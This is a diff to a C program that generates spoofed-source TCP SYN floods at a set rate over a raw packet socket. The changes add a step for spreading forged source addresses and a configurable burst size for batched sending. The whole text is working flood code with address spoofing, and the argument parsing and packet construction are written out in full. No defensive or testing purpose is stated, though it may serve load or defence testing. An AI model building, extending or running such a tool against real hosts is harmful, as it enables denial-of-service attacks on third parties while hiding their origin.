@@ -2,11 +2,12 @@
 /*
  * Forged SYNs in the names of many, at a steady rate, out of one interface:
  *
- *     flood IFACE DESTINATION-MAC TARGET FIRST-NAME NAMES EACH RATE SECONDS OPTIONS PORT[-PORT],...
+ *     flood IFACE DESTINATION-MAC TARGET FIRST-NAME NAMES[/STEP] EACH RATE SECONDS OPTIONS PORT[-PORT],... [BURST]
  *
- * The n-th packet is in the name n / EACH of NAMES, counted up from FIRST-NAME (an IPv6 name is a /64), to the next
- * of the ports in turn, from a random port with a random sequence number.  OPTIONS: stack (as Linux), mss or none.
- * Prints how many it sent.  Bounded by SECONDS; what the interface does not take at once is dropped, as on a real line.
+ * The n-th packet is in the name n / EACH of NAMES, counted up from FIRST-NAME (an IPv6 name is a /64) by STEP, to the
+ * next of the ports in turn, from a random port with a random sequence number.  OPTIONS: stack (as Linux), mss or none.
+ * BURST of them, 32 at most, are sent at a time; if it is not given 1, above 1,000 a second 32.  Prints how many it
+ * sent.  Bounded by SECONDS; what the interface does not take at once is dropped, as on a real line.
  */
 #include <arpa/inet.h>
 #include <linux/if_packet.h>
@@ -26,8 +27,8 @@
 struct flood {
 	bool v6;
 	uint8_t target[16], first[16];
-	uint32_t names, each;
-	uint32_t port_count, option_len;
+	uint32_t names, step, each;
+	uint32_t port_count, option_len, burst;
 	uint16_t ports[PORTS_MAX];
 	uint8_t option[20];
 	uint64_t random;
@@ -90,7 +91,7 @@ static size_t build(struct flood *f, uint8_t *p, uint64_t n)
 	uint8_t *source = p + (f->v6 ? 8 : 12), *tcp = p + head;
 
 	memset(p, 0, head + len);
-	put_name(f, source, (uint32_t)(n / f->each % f->names));
+	put_name(f, source, (uint32_t)(n / f->each % f->names) * f->step);
 	memcpy(source + address, f->target, address);
 	if (f->v6) {
 		p[0] = 0x60;
@@ -152,16 +153,15 @@ static uint64_t run(struct flood *f, int fd, const struct sockaddr_ll *to, long 
 
 			clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &until, NULL);
 		}
-		unsigned batch = rate < 1000 ? 1 : BATCH;
-		for (unsigned i = 0; i < batch; i++) {
+		for (unsigned i = 0; i < f->burst; i++) {
 			iov[i] = (struct iovec){ data[i], build(f, data[i], sent + i) };
 			messages[i].msg_hdr = (struct msghdr){ .msg_name = (void *)(uintptr_t)to,
 							       .msg_namelen = sizeof(*to),
 							       .msg_iov = &iov[i],
 							       .msg_iovlen = 1 };
 		}
-		sendmmsg(fd, messages, batch, 0);
-		sent += batch;
+		sendmmsg(fd, messages, f->burst, 0);
+		sent += f->burst;
 	}
 	return sent;
 }
@@ -169,8 +169,9 @@ static uint64_t run(struct flood *f, int fd, const struct sockaddr_ll *to, long 
 int main(int argc, char **argv)
 {
 	static struct flood f = { .random = 88172645463325252ULL };
+	char *step;
 
-	if (argc != 11)
+	if (argc != 11 && argc != 12)
 		return 2;
 	f.v6 = strchr(argv[3], ':') != NULL;
 	int family = f.v6 ? AF_INET6 : AF_INET;
@@ -183,15 +184,17 @@ int main(int argc, char **argv)
 	if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", m, m + 1, m + 2, m + 3, m + 4, m + 5) != 6 ||
 	    inet_pton(family, argv[3], f.target) != 1 || inet_pton(family, argv[4], f.first) != 1)
 		return 2;
-	f.names = (uint32_t)atol(argv[5]);
+	f.names = (uint32_t)strtoul(argv[5], &step, 10);
+	f.step = *step == '/' ? (uint32_t)atol(step + 1) : 1;
 	f.each = (uint32_t)atol(argv[6]);
 	f.option_len = strcmp(argv[9], "stack") == 0 ? 20 : strcmp(argv[9], "mss") == 0 ? 4 : 0;
 	memcpy(f.option, stack_options, f.option_len);
 	parse_ports(&f, argv[10]);
+	f.burst = argc == 12 ? (uint32_t)atol(argv[11]) : atol(argv[7]) < 1000 ? 1 : BATCH;
 	f.random ^= (uint64_t)now_ns();
 	int fd = socket(AF_PACKET, SOCK_DGRAM, 0);
 	int size = 8 << 20;
-	if (fd < 0 || f.names == 0 || f.each == 0 || f.port_count == 0)
+	if (fd < 0 || f.names == 0 || f.each == 0 || f.port_count == 0 || f.burst == 0 || f.burst > BATCH)
 		return 1;
 	setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &size, sizeof(size));
 	printf("%llu\n", (unsigned long long)run(&f, fd, &to, atol(argv[7]), atof(argv[8])));
